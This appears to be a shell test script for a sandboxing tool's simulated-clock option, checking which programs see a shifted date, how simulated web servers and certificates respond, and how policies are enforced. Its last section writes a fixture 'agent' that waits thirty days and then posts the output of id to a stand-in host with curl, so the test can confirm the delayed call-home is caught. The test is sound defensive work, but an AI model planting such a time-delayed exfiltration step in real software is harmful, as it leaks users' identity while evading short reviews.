#!/bin/sh
# SPDX-License-Identifier: Apache-2.0
# clock.sh - tcbox run --clock: which programs have the product's clock, what the simulated internet says, that nothing of
# libfaketime is the product's act and nothing of the product's is hidden, and a product that waits for a month
# shellcheck disable=SC1091,SC2154,SC2016 # box.sh sets what it says; the shell that is started expands it
here=$(cd "$(dirname "$0")" && pwd)
topic=clock
. "$here/lib/box.sh"

needs libfaketime "another clock" || finish
cp "$ACTORS/clock_static" "$work/"
day() { date -u "$@" +%Y-%m-%d; }
# since ARGUMENTS...: days that the product sees, by each program
ask='date -u +%Y-%m-%d; python3 -c "import time; print(time.strftime(\"%Y-%m-%d\", time.gmtime()))"; ./clock_static'

run 2 "a clock that is none" --clock tomorrow -- true
says "it is told what one is" "$err" 'write for example +30d, -2h, 2027-01-01'
run 2 "a clock of no calendar" --clock +999999w -- true
says "and why" "$err" 'is not between 1980 and 2199'

later=30
if absent "time namespaces"; then later=0; fi
# expect FILE: what is seen 30 days ahead, by the machine's clock as it is now
expect() {
	then=$(day -d '+30 days') up=$(cut -d. -f1 /proc/uptime)
	{ echo "$then"; echo "$then"; echo "$(day) $((up / 86400 + later))"; day; } >"$1"
}
# lines FILE BEFORE AFTER: each of its lines is that of one of the others: a day may end while the product runs
lines() {
	awk 'FNR == 1 { f++ }
		f == 1 { early[FNR] = $0 }
		f == 2 { late[FNR] = $0 }
		f == 3 { n = FNR; bad = bad || ($0 != early[n] && $0 != late[n] && $0 != mixed(n)) }
		function mixed(n,  a, b) { split(early[n], a, " "); split(late[n], b, " "); return a[1] " " b[2] }
		END { exit bad || n != 4 }' "$2" "$3" "$1" || { cat "$1" "$2"; return 1; }
}

expect "$dir/before"
run 3 "30 days ahead" --clock +30d -- sh -c "$ask; env -i /bin/date -u +%Y-%m-%d"
expect "$dir/after"
check "dynamic programs have it; static ones, and those without the variable, only see the machine run for longer" \
	lines "$out" "$dir/before" "$dir/after"
holds "the manifest and the report say so" \
	"m.clock == r.run.clock == '+30d' and m.clock_ahead_s == r.run.clock_ahead_s == 30 * 86400" \
	"who had it was seen" "[p for p in m.clock_moved if '/python3' in p] and '/usr/bin/date' in m.clock_moved" \
	"and who had not, with the reason" \
	"set(m.clock_real) == {'$work/clock_static (static)', '/usr/bin/date (not loaded)'}" \
	"as the record has it" "{e.program for e in ev if e.k == 'clock' and e.moved} == set(m.clock_moved)" \
	"libfaketime leaves no act on a file" "not [e for e in ev if e.k == 'file']" \
	"times of the record are the machine's" "r.run.started[:10] in ('$(day)', '$(day -d yesterday)')" \
	"nothing is less than was asked for, but for what the machine has not" \
		"len(m.reduced) == ($later == 0) and not m.degraded"
check "the report says it to people" sh -c "'$TCBOX' report '$bundle' | tr -s ' \n' ' ' |
	grep -q 'clock +30d: 2592000 s ahead of the machine.*with this clock /usr/bin/da.*machine.s clock .*clock_static (static)'"
run 3 "without a clock of its own" -- sh -c "$ask"
holds "nothing is said of clocks" "not m.clock and not m.clock_moved and not [e for e in ev if e.k == 'clock']"

up=$(cut -d. -f1 /proc/uptime)
run 3 "two hours back" --clock -2h -- sh -c 'date +%s; ./clock_static'
check "the time of day goes back" test $(($(date +%s) - $(head -n 1 "$out"))) -ge 7190
check "the time since the start does not" grep -qE " ($((up / 86400))|$(($(cut -d. -f1 /proc/uptime) / 86400)))\$" "$out"
run 3 "a moment" --clock 2031-05-06T07:08:09Z -- date -u +%Y-%m-%dT%H:%M
says "is then" "$out" 2031-05-06T07:08

for what in node java go; do
	command -v $what >/dev/null || continue
	case $what in
	node) set -- node -e 'console.log(new Date().toISOString().slice(0, 10))' ;;
	java)
		printf 'class T { public static void main(String[] a) { System.out.println(java.time.LocalDate.now()); } }\n' \
			>"$work/T.java"
		set -- java T.java
		;;
	go) set -- "$ACTORS/fetch_go" http://a.example/ ;;
	esac
	run 3 "$what" --clock 2031-05-06 --layer 1GiB -- "$@"
	if [ $what = go ]; then
		holds "go: a program of Go reads the clock itself, and this is told" \
			"[p for p in m.clock_real if p.endswith('/fetch_go (go)')] and not m.clock_moved"
	else
		says "$what: has it" "$out" 2031-05-06
		holds "$what: was seen with it" "[p for p in m.clock_moved if '$what' in p]"
	fi
done

# NTP: seconds since 1900 at byte 40 of the answer
run 3 "a lookup of the time" --clock 2031-05-06 -- python3 -c 'if True:
	import socket, time
	s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
	s.settimeout(20)
	s.sendto(b"\x23" + bytes(47), (socket.gethostbyname("ntp.example"), 123))
	at = int.from_bytes(s.recv(48)[40:44], "big") - 2208988800
	print(time.strftime("%Y-%m-%d", time.gmtime(at)))'
says "says the product's" "$out" 2031-05-06

# A program that waits until a moment waits no shorter and no longer than by the machine's clock
for clock in +30d -2h; do
	run 3 "waits, $clock" --clock $clock -- "$ACTORS/wait_actor"
	holds "none ended early, $clock" "m.exit_code == 0" "none had to be ended, $clock" "not m.exit_signal and not m.timed_out"
done

# What the simulated internet says
run 3 "answers of the simulated internet" --clock 2031-05-06 -- sh -c \
	'curl -sSI http://a.example/; curl -sSI --http2 https://a.example/; env -i /usr/bin/curl -sSo /dev/null \
	--cacert /etc/ssl/certs/ca-certificates.crt https://a.example/ && echo real trusts'
check "HTTP/1 and HTTP/2 have the product's date" test "$(grep -ci '^date: tue, 06 may 2031' "$out")" = 2
says "their certificates are valid by the machine's clock, too" "$out" 'real trusts'
run 3 "a certificate that has expired" --clock 2031-05-06 --scenario tls-expired -- curl -sS https://a.example/
says "is expired by the product's" "$err" 'certificate has expired'
run 3 "a kept layer" --state "clock-$$" -- curl -sSo /dev/null https://a.example/
run 3 "used again later" --state "clock-$$" --clock +3w -- curl -sSo /dev/null https://a.example/
run 3 "and after its authority has ended" --state "clock-$$" --clock +300d -- curl -sSo /dev/null https://a.example/
"$TCBOX" state rm "clock-$$" >/dev/null 2>&1 || "$TCBOX" state remove "clock-$$" >/dev/null 2>&1

# Policies: what was learned by the machine's clock holds, also enforced, where nothing else may be written
work_="date >/tmp/day; curl -sS http://a.example/ >/dev/null"
run 3 "to learn from" -- sh -c "$work_"
"$TCBOX" policy new --output "$dir/learned.json" "$bundle" >/dev/null 2>"$err" || cat "$err"
run 0 "what was learned without it conforms with it" --clock +30d --policy "$dir/learned.json" -- sh -c "$work_"
says "under that clock" "$err" 'With the clock +30d: everything that was seen is declared'
run 0 "also enforced" --clock +30d --enforce --policy "$dir/learned.json" -- sh -c "$work_"
holds "with the clock" "'/usr/bin/date' in m.clock_moved and m.writes_by"
# By mounts, where the product may mount; and by Landlock, where it may not read
for policy in '"write": ["/tmp/**"] }, "syscalls": { "allow": ["@default", "@network", "@namespace", "@mount", "@identity"] }' \
	'"write": ["/tmp/**"], "read": ["/etc/hosts"] }'; do
	printf '{ "tcbox_policy": 1, "files": { %s }\n' "$policy" >"$dir/held.json"
	then=$(day -d '+30 days')
	run "0 1" "a product that is held to its files" --clock +30d --enforce --policy "$dir/held.json" -- \
		sh -c 'date -u +%Y-%m-%d; echo x 2>/dev/null >/dev/shm/x || echo refused'
	check "has the clock" grep -qE "^($then|$(day -d '+30 days'))\$" "$out"
	says "and is held" "$out" refused
done
check "by mounts and by Landlock" sh -c "cat '$dir'/bundles/*/run.json | grep -q '\"writes_by\": *\"mounts\"'"

# What libfaketime opens hides nothing
run 3 "files beside those of libfaketime" --clock +1d -- sh -c \
	'echo x >/dev/shm/other; chmod 600 /dev/shm/faketime; rm -f /dev/shm/sem.faketime; ls /dev/shm >&2; date >/dev/null
	env -u FAKETIME_SHARED date >/dev/null'
holds "are told" "[e for e in ev if e.k == 'file' and e.path == '/dev/shm/other']" \
	"other acts on its files, too" \
	"[e for e in ev if e.k == 'file' and e.op == 'chmod' and e.path == '/dev/shm/faketime'] and \
		[e for e in ev if e.k == 'file' and e.op == 'remove' and e.path == '/dev/shm/sem.faketime']" \
	"and what it makes itself, told of none" \
	"[e for e in ev if e.k == 'file' and e.path.startswith('/dev/shm/faketime_shm_')]"
run 3 "they hold no more than two pages" --clock +1d -- \
	dd if=/dev/zero of=/dev/shm/faketime conv=notrunc bs=1000 count=100
holds "and what is written there is told" "[e for e in ev if e.k == 'file' and e.path == '/dev/shm/faketime']"
check "the rest has no room" grep -q "No space left" "$err"

# A product that waits for a month
cat >"$work/agent" <<'P'
#!/bin/sh
[ -z "$(find "$0" -mtime +29)" ] || curl -sS -m 9 -d "$(id)" https://home.example/late
echo fine
P
chmod 755 "$work/agent"
run 3 "a product that waits for a month" -- ./agent
holds "says nothing of it in a day" "not r.facts.destinations"
"$TCBOX" policy new --output "$dir/agent.json" "$bundle" >/dev/null 2>"$err" || cat "$err"
run 1 "a month later" --clock +30d --policy "$dir/agent.json" -- ./agent
holds "it calls home" "[d for d in r.facts.destinations if d.host == 'home.example' and d.port == 443]" \
	"and this is read" "[e for e in ev if e.k == 'request' and e.method == 'POST' and e.path == '/late']"

finish
